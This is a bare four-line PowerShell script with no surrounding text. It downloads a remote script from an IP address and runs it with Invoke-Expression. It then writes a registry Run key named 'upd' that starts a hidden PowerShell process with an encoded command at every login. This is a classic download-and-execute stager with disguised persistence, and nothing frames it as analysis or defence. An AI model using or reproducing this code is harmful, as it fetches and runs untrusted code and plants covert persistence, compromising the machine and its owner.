$c = New-Object System.Net.WebClient
$s = $c.DownloadString('http://203.0.113.11/p.ps1')
Invoke-Expression $s
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name upd -Value 'powershell -w hidden -enc SQBFAFgA'
